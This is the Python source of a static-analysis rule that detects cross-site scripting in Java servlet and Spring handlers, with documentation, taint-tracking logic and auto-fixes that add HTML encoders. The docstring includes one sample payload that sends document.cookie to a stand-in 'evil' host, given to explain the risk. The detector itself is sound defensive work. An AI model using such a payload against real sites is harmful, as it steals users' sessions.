"""Cross-site scripting: request data written into the HTTP response as HTML.

## What it does
Flags request data (``request.getParameter``, ``@RequestParam`` ...) that reaches
``response.getWriter().print``/``println``/``write``/``format``/``printf``/``append`` (sinks of
kind ``xss`` in ``data/models/java.toml``), followed through the method and same-file helpers by
the dataflow core. HTML encoders make the value safe - OWASP Java Encoder ``Encode.forHtml``,
ESAPI ``encodeForHTML``, Spring ``HtmlUtils.htmlEscape``, commons-text
``StringEscapeUtils.escapeHtml4``, unbescape, Tomcat's ``HTMLFilter.filter`` - and so do a number
parse or an allow-list check; escaping for another kind (SQL, a file name) or Base64 does not.
``char[]`` and ``Object`` arguments (``print(value.toCharArray())``, ``printf``'s arguments) count.
A method that sets a constant content type browsers do not render as HTML
(``setContentType("application/json")``, ``text/plain``) is not reported.

A Spring handler's return value is the response body when the method is ``@ResponseBody`` or
its class ``@RestController``: a ``String`` handler returning request data is reported (Spring
sends it as ``text/html`` to a browser that asks for HTML), unless its mapping ``produces``
JSON, plain text or another non-HTML type. A plain ``@Controller`` returning a view name is not.
A ``ResponseEntity`` is the response of any handler: request data in the body of
``ResponseEntity.ok(body)``, ``ResponseEntity.status(..).body(body)`` or
``new ResponseEntity<>(body, status)`` (also through a variable) is reported when the entity
holds text - ``ResponseEntity<String>``, or ``ResponseEntity<?>``/raw with a string built in
the handler (other objects are sent as JSON) - unless the mapping or the builder sets a
non-HTML content type (``.contentType(MediaType.APPLICATION_JSON)``,
``headers.setContentType(MediaType.TEXT_PLAIN)``). Request data in the status or a header only is
not reported here.

## Why is this bad?
The browser runs whatever the response contains: a name like ``<script>fetch('//evil/'+document.cookie)</script>``
echoed into a page runs in the victim's session, reads their data and acts as them.

## Example
```java
response.getWriter().println("<p>Hello " + request.getParameter("name") + "</p>");
return ResponseEntity.ok("<p>Hello " + name + "</p>");   // in a Spring handler
```

## Use instead
```java
response.getWriter().println("<p>Hello " + Encode.forHtml(request.getParameter("name")) + "</p>");
return ResponseEntity.ok("<p>Hello " + HtmlUtils.htmlEscape(name) + "</p>");
```
The quick fix wraps each part of the written text that is request data as it came (a
parameter, a header, a variable holding one) in the HTML encoder of a library the file already
imports - OWASP Encoder ``Encode.forHtml``, Spring ``HtmlUtils.htmlEscape``, commons-text
``StringEscapeUtils.escapeHtml4`` - and offers none when a part may hold markup of its own.
Better still, render through a template engine that escapes by default (Thymeleaf, JSP with
``<c:out>``).

## References
- CWE-79: Improper Neutralization of Input During Web Page Generation
  (https://cwe.mitre.org/data/definitions/79.html)
- OWASP Cross Site Scripting Prevention Cheat Sheet
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

from tree_sitter import Node

from landguard.checks.java._support import (
    JavaTaintCheck,
    body_classes,
    method_scope,
    module_facts,
    occurs_in,
    route_facts,
)
from landguard.dataflow import ir
from landguard.dataflow.interpret import FunctionFacts, SinkHit
from landguard.dataflow.shapes import assignments, walk
from landguard.dataflow.values import request_labels
from landguard.engine.findings import Confidence, Finding, Fix, Severity, TextEdit
from landguard.engine.registry import CheckContext, Rule
from landguard.languages.java_syntax import (
    call_args,
    call_name,
    call_object,
    concat_leaves,
    declared_type,
    import_edit,
    is_identifier,
    is_method_call,
    is_string_literal,
    modifiers_text,
    node_text,
)

if TYPE_CHECKING:
    from landguard.engine.document import Document

RULE = Rule(
    id="LG413",
    name="cross-site-scripting",
    title="Request data written into the response",
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(79,),
    docs=__doc__,
    languages=frozenset({"java"}),
    aliases=("find_sec_bugs.XSS_SERVLET",),
)


class CrossSiteScriptingCheck(JavaTaintCheck):
    rule = RULE
    kind = "xss"
    request_only = True
    fixes_add_imports = True
    message = "Unescaped {what} is written into the response{where} by {method}(); encode it for HTML (Encode.forHtml)"
    needles = (b"print", b"write", b"format", b"append", b"Writer", b"return")

    def module_context_key(self, document: Document, context: CheckContext) -> object:
        # Whether a handler's return value is the response body depends on its class's annotations.
        return (super().module_context_key(document, context), body_classes(document, context))

    def check_unit(self, unit: Node, document: Document, context: CheckContext) -> Iterable[Finding]:
        if occurs_in(document.source, unit, (b"print", b"write", b"format", b"append", b"Writer")):
            yield from super().check_unit(unit, document, context)  # writers: the sinks of the models
        classes = body_classes(document, context)
        if not occurs_in(document.source, unit, (b"return",)) or not (
            classes or occurs_in(document.source, unit, (b"ResponseBody", b"ResponseEntity"))
        ):
            return
        for function, facts in route_facts(unit, document, context):
            body = _body_of(document, function, classes)
            if body is None or _not_html(document, facts):
                continue
            for statement in walk(function.body):
                if not isinstance(statement, ir.Return) or statement.value is None:
                    continue
                node = getattr(statement.value, "node", None)
                if node is None or not _carries_request(facts, statement.value):
                    continue
                if body != _STRING_BODY and not any(
                    _carries_request(facts, part) and (body == _ENTITY or isinstance(part, ir.Concat))
                    for part in _entity_bodies(facts, statement.value)
                ):
                    continue  # request data in the status or headers only, or an object sent as JSON
                yield RULE.finding(
                    document.node_span(node),
                    "Unescaped request data is returned as the response body; encode it for HTML "
                    "(HtmlUtils.htmlEscape) or produce JSON",
                )

    def reports(self, facts: FunctionFacts, hit: SinkHit) -> bool:
        return hit.via_helper is not None or not _not_html(None, facts)

    def fixes(
        self, facts: FunctionFacts, hit: SinkHit, unit: Node, document: Document, context: CheckContext
    ) -> list:
        """Encode each part of the written text that carries request data, with the HTML encoder
        of a library the file already uses (OWASP Encoder, Spring, commons-text); none otherwise."""
        node = hit.call.node
        if hit.via_helper is not None or not is_method_call(node):
            return []
        module = module_facts(document, context)
        encoder = next(
            (
                (call, qualified)
                for prefix, call, qualified in _ENCODERS
                if any(name.startswith(prefix) for name in module.imports)
            ),
            None,
        )
        if encoder is None:
            return []
        call, qualified = encoder
        scope = method_scope(unit, document, context)
        edits = []
        for argument in call_args(node):
            for leaf in concat_leaves(document, argument):
                value = facts.values.get(leaf)
                if not request_labels(value, self.kind):
                    continue
                if not _plain_text(document, scope, leaf):
                    return []  # it may hold markup of its own (a helper's HTML): encoding it changes the page
                text = node_text(document, leaf)
                if not _is_string(document, scope, leaf):
                    text = f"String.valueOf({text})"
                edits.append(TextEdit(document.node_span(leaf), f"{call}({text})"))
        if not edits:
            return []
        extra = import_edit(document, module, qualified)
        return [Fix(f"Encode it with {call}()", (*edits, *([extra] if extra else [])), preferred=True)]


def _not_html(document: Document | None, facts: FunctionFacts) -> bool:
    """The method sets a constant content type that browsers do not render as HTML (JSON, text):
    ``setContentType("application/json")``, a ``Content-Type`` header, or (given the document)
    a Spring ``MediaType`` constant (``ResponseEntity.ok().contentType(MediaType.APPLICATION_JSON)``,
    ``headers.setContentType(MediaType.TEXT_PLAIN)``)."""
    types = []
    for fact in facts.calls:
        if fact.call.method in ("setContentType", "contentType"):
            position = 0
        elif fact.call.method in ("setHeader", "addHeader", "header", "set", "add"):
            name = fact.argument(0)
            if name is None or not (isinstance(name.const, str) and name.const.lower() == "content-type"):
                continue
            position = 1
        else:
            continue
        value = fact.argument(position)
        if value is not None and isinstance(value.const, str):
            types.append(value.const.lower())
            continue
        argument = fact.call.args[position] if position < len(fact.call.args) else None
        written = node_text(document, argument.node) if document is not None and argument is not None else ""
        if not _MEDIA_TYPE_CONSTANT.match(written):
            return False
        types.append(written.rsplit(".", 1)[-1].lower().replace("_", "/", 1))
    return bool(types) and not any(_HTML_TYPES.search(content_type) for content_type in types)


def _carries_request(facts: FunctionFacts, expr: ir.Expr) -> bool:
    node = getattr(expr, "node", None)
    value = facts.values.get(node) if node is not None else None
    return bool(request_labels(value, "xss"))


# (an import prefix showing the library is used, the encoder call, the class to import)
_ENCODERS = (
    ("org.owasp.encoder", "Encode.forHtml", "org.owasp.encoder.Encode"),
    ("org.springframework", "HtmlUtils.htmlEscape", "org.springframework.web.util.HtmlUtils"),
    ("org.apache.commons.text", "StringEscapeUtils.escapeHtml4", "org.apache.commons.text.StringEscapeUtils"),
)
# Request accessors that return a String (their result can be encoded as it is).
_STRING_SOURCES = frozenset(
    {
        "getParameter",
        "getHeader",
        "getQueryString",
        "getRequestURI",
        "getPathInfo",
        "getRemoteUser",
        "getValue",
        "getName",
    }
)


_TEXT_METHODS = frozenset({"trim", "strip", "toLowerCase", "toUpperCase", "toCharArray", "toString"})


def _plain_text(document: Document, scope, leaf: Node, depth: int = 0) -> bool:
    """Whether the part is request text as it came (a parameter, a header, a variable holding
    one), not something that may contain markup the page wants."""
    if depth > 4:
        return False
    if is_method_call(leaf):
        name = call_name(document, leaf)
        if name in _STRING_SOURCES:
            return True
        receiver = call_object(leaf)
        return (
            name in _TEXT_METHODS
            and receiver is not None
            and _plain_text(document, scope, receiver, depth + 1)
        )
    if is_identifier(leaf):
        values = scope.values.get(node_text(document, leaf), [])
        return all(op == "=" and _plain_text(document, scope, value, depth + 1) for op, value in values)
    return False


def _is_string(document: Document, scope, leaf: Node) -> bool:
    if is_identifier(leaf):
        return scope.type_of(node_text(document, leaf)) == "String"
    if is_method_call(leaf):
        return call_name(document, leaf) in _STRING_SOURCES or call_name(document, leaf) == "toString"
    return is_string_literal(leaf)


_HTML_TYPES = re.compile(r"html|xml|svg")
# A Spring ``MediaType`` constant naming a type (``MediaType.APPLICATION_JSON``, ``..._VALUE``);
# ``MediaType.ALL`` names none.
_MEDIA_TYPE_CONSTANT = re.compile(r"^(?:[\w.]+\.)?MediaType\.[A-Z0-9]+_[A-Z0-9_]+$")
_NOT_HTML_PRODUCES = re.compile(r"json|text/plain|TEXT_PLAIN|JSON|octet|OCTET|image|IMAGE|csv|CSV")


# What a handler returns: the body text itself, or a ``ResponseEntity`` whose body is text
# (``ResponseEntity<String>``) or may be (``ResponseEntity<?>``, ``<Object>``, raw: text only when
# the body is a string built in the handler; another object is sent as JSON).
_STRING_BODY, _ENTITY, _ENTITY_OF_ANYTHING = "string", "entity", "entity-of-anything"
_ENTITY_TYPE = re.compile(r"^(?:[\w.]+\.)?ResponseEntity\s*(?:<\s*([\w.?]+)\s*>)?$")
_TEXT_TYPES = frozenset({"String", "java.lang.String", "CharSequence"})


def _body_of(document: Document, function: ir.Function, classes: frozenset[str]) -> str | None:
    """How the handler's return value becomes the response body, or None when it does not (a
    view name, a mapping that ``produces`` JSON, plain text or another non-HTML type).

    A ``String`` is the body of a ``@ResponseBody`` (or ``@RestController``) handler, which
    Spring sends as ``text/html`` to a browser that asks for it; a ``ResponseEntity`` is the
    response of any handler, a plain ``@Controller``'s too."""
    node = function.node
    if node is None or _NOT_HTML_PRODUCES.search(modifiers_text(document, node)):
        return None
    returned = node_text(document, declared_type(node))
    entity = _ENTITY_TYPE.match(returned)
    if entity is not None:
        argument = entity.group(1)
        if argument in _TEXT_TYPES:
            return _ENTITY
        return _ENTITY_OF_ANYTHING if argument in (None, "?", "Object", "java.lang.Object") else None
    if returned != "String":
        return None
    annotations = function.extra.get("annotations", ())
    return _STRING_BODY if "ResponseBody" in annotations or function.class_name in classes else None


_ENTITY_BUILDERS = frozenset({"ok", "body"})  # ``ResponseEntity.ok(body)``, ``....body(body)``


def _entity_bodies(facts: FunctionFacts, expr: ir.Expr, depth: int = 0) -> list[ir.Expr]:
    """The body arguments of the ``ResponseEntity`` a handler returns: ``ResponseEntity.ok(x)``,
    ``ResponseEntity.status(s).header(...).body(x)``, ``new ResponseEntity<>(x, status)``,
    through the variables holding one."""
    if depth > 4:
        return []
    if isinstance(expr, ir.Cond):
        return _entity_bodies(facts, expr.then, depth + 1) + _entity_bodies(facts, expr.orelse, depth + 1)
    if isinstance(expr, ir.Name):
        return [
            body
            for assign in assignments(facts.function.body)
            if isinstance(assign.target, ir.Name) and assign.target.name == expr.name
            for body in _entity_bodies(facts, assign.value, depth + 1)
        ]
    if not isinstance(expr, ir.Call) or not expr.args:
        return []
    if expr.is_new:
        return [expr.args[0]] if (expr.callee or "").endswith("ResponseEntity") else []
    if expr.method == "body" or (expr.method == "ok" and (expr.callee or "").endswith("ResponseEntity.ok")):
        return [expr.args[0]]
    return []


CHECK = CrossSiteScriptingCheck()
